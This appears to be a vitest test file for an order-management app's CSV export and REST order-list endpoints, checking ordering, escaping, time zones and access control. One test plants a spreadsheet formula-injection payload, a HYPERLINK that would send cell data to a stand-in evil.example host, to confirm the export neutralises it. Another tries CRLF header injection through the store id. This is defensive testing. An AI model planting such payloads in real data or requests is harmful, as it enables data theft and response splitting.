import { describe, expect, it } from "vitest";
import type { OrderView } from "@/server/services/order-views";
import { acceptOrder } from "@/server/services/accept-order";
import { SYSTEM_ACTOR } from "@/server/services/actor";
import { cancelOrder } from "@/server/services/close-order";
import { createOrder } from "@/server/services/create-order";
import { listOrders, ZListOrders } from "@/server/services/list-orders";
import { reportIssue } from "@/server/services/report-issue";
import { makeStore, orderInput } from "@/test-support/orders";
import { makeEmployee, makeToken, signInAs } from "@/test-support/people";
import { rest } from "@/test-support/rest";
import { GET as exportRoute } from "./route";

const storeId = await makeStore();
const at = (minute: number) => new Date(Date.UTC(2026, 10, 1, 12, minute)).toISOString();
const made: OrderView[] = [];
for (let i = 0; i < 1203; i++) {
  const input = orderInput(storeId, {
    placed_at: at(i % 120),
    platform: i % 3 === 0 ? "grubhub" : "doordash",
    customer: { first_name: i === 7 ? 'Ann "Quote", Jr' : "Jane", last_name: "Doe" },
  });
  made.push((await createOrder(input, SYSTEM_ACTOR)).order);
}
await cancelOrder({ orderId: made[6]!.id, reason: { code: "STORE_CLOSED", message: "" }, actor: SYSTEM_ACTOR });

/** Reads RFC 4180 CSV back, so the test checks what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      row.push(field);
      field = "";
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      rows.push([...row, field]);
      row = [];
      field = "";
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe("CSV export", () => {
  it("streams exactly the filtered list, in its order, with fields escaped", async () => {
    const manager = (await signInAs((await makeEmployee("manager", [storeId])).id)).token;
    const query = `store_id=${storeId}&platform=doordash&sort=placed&dir=desc`;
    const response = await exportRoute(new Request(`http://x/api/orders/export?${query}`, { headers: { cookie: `ob_session=${manager}` } }));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const [header, ...rows] = parseCsv(await response.text());
    expect(header?.slice(0, 3)).toEqual(["id", "short_code", "platform"]);

    const expected: number[] = [];
    let cursor: string | undefined;
    do {
      const page = await listOrders(ZListOrders.parse({ store_id: storeId, platform: ["doordash"], limit: 100, cursor }), null);
      expected.push(...page.orders.map((o) => o.id));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(rows.map((r) => Number(r[0]))).toEqual(expected);
    expect(expected).toHaveLength(802);
    expect(rows.find((r) => Number(r[0]) === made[7]!.id)?.[7]).toBe('Ann "Quote", Jr Doe');
  });

  it("reads as a manager wants it: local time, items, the total in dollars, the issue flag and who accepted, beside the cents", async () => {
    const store = await makeStore("America/Los_Angeles");
    const input = orderInput(store, { placed_at: "2026-11-26T22:05:41Z", items: [{ name: "Burger", quantity: 2, unit_price_cents: 1000 }, { name: "Fries", quantity: 1, unit_price_cents: 350 }], money: { subtotal_cents: 2350, tax_cents: 0, tip_cents: 0, fees_cents: 0, discount_cents: 0, total_cents: 2350 } });
    const order = (await createOrder(input, SYSTEM_ACTOR)).order;
    const manager = await makeEmployee("manager", [store]);
    await acceptOrder({ orderId: order.id, prepMinutes: 10, actor: { type: "employee", id: String(manager.id), name: "Maya Patel" } });
    await reportIssue({ orderId: order.id, issue: { type: "missing_items", description: "No fries", affected_items: [], refund_cents: null }, actor: SYSTEM_ACTOR });
    const quiet = (await createOrder(orderInput(store), SYSTEM_ACTOR)).order;

    const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${store}`, { headers: { cookie: `ob_session=${(await signInAs(manager.id)).token}` } }));
    const [header, ...rows] = parseCsv(await response.text());
    const read = (id: number) => Object.fromEntries(header!.map((name, i) => [name, rows.find((row) => Number(row[0]) === id)![i]]));
    expect(read(order.id)).toMatchObject({
      placed_at: "2026-11-26T22:05:41.000Z",
      placed_local: "2026-11-26 14:05",
      time_zone: "America/Los_Angeles",
      items: "2× Burger; 1× Fries",
      currency: "USD",
      total: "23.50",
      total_cents: "2350",
      has_issue: "true",
      accepted_by: "Maya Patel",
    });
    expect(read(quiet.id)).toMatchObject({ has_issue: "false", accepted_by: "", total: "28.01" });
  });

  it("writes no cell a spreadsheet would run, whatever an integrator put in the order", async () => {
    const attacked = await makeStore();
    const post = await rest("POST", "/api/v1/orders", {
      token: await makeToken(["orders:write"], attacked),
      body: { ...orderInput(attacked), external_id: "@SUM(1+1)", customer: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")', last_name: "" } },
    });
    expect(post.status).toBe(201);
    const manager = (await signInAs((await makeEmployee("manager", [attacked])).id)).token;
    const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${attacked}`, { headers: { cookie: `ob_session=${manager}` } }));
    const [header, row] = parseCsv(await response.text());
    expect(row![header!.indexOf("customer")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Refund")`);
    expect(row![header!.indexOf("external_id")]).toBe("'@SUM(1+1)");
    expect(row!.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  it("looks the store up before naming the file: an unknown or forged store id is a 404, never a broken header", async () => {
    const admin = (await signInAs((await makeEmployee("admin", [])).id)).token;
    const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${encodeURIComponent("mission\r\nSet-Cookie: x=1")}`, { headers: { cookie: `ob_session=${admin}` } }));
    expect(response.status).toBe(404);
    expect((await response.json()).error.code).toBe("STORE_NOT_FOUND");
    const good = await exportRoute(new Request(`http://x/api/orders/export?store_id=${storeId}`, { headers: { cookie: `ob_session=${admin}` } }));
    expect(good.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="orders-${storeId}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
  });

  it("is for managers of the store and admins only", async () => {
    const staff = (await signInAs((await makeEmployee("staff", [storeId])).id)).token;
    const request = (cookie?: string) => exportRoute(new Request(`http://x/api/orders/export?store_id=${storeId}`, { headers: cookie ? { cookie } : {} }));
    expect((await request()).status).toBe(401);
    expect((await request(`ob_session=${staff}`)).status).toBe(403);
  });
});

describe("REST order lists", async () => {
  const token = await makeToken(["orders:read"], storeId);
  const get = (url: string) => rest("GET", url, { token });

  it("page through GET /api/v1/orders with filters, limited to the token's store", async () => {
    const first = await (await get(`/api/v1/orders?platform=grubhub&limit=300`)).json();
    expect(first.orders).toHaveLength(300);
    const second = await (await get(`/api/v1/orders?platform=grubhub&limit=300&cursor=${first.next_cursor}`)).json();
    expect(second.orders).toHaveLength(101);
    expect(second.next_cursor).toBeNull();
    expect(new Set([...first.orders, ...second.orders].map((o: { platform: string }) => o.platform))).toEqual(new Set(["grubhub"]));
    expect((await get(`/api/v1/orders?store_id=${await makeStore()}`)).status).toBe(403);
    expect((await get(`/api/v1/orders?status=lost`)).status).toBe(400);
  });

  it("count, store orders and history agree with the list", async () => {
    const counts = await (await get(`/api/v1/orders/count?platform=grubhub`)).json();
    expect(counts).toMatchObject({ total: 401, active: 400, finished: 1, by_status: { cancelled: 1, incoming: 400 } });
    const history = await (await get(`/api/v1/orders/history`)).json();
    expect(history.orders.map((o: { id: number }) => o.id)).toEqual([made[6]!.id]);
    const storeOrders = await get(`/api/v1/stores/${storeId}/orders?limit=1`);
    expect((await storeOrders.json()).orders).toHaveLength(1);
  });
});
